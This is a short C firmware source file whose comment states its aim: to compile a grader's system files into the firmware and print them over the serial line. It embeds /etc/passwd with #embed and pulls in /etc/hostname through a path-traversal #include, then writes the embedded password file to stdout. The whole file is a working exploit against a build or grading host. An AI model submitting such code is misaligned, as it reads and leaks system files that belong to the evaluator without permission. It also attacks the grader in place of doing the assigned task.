/* Would have the grader's files compiled into the firmware, and print them on the serial line. */
#include <stdio.h>

static const char users[] = {
#embed "/etc/passwd"
};

#include "../../../../../../../../etc/hostname"

void app_main(void)
{
    fwrite(users, 1, sizeof(users), stdout);
}
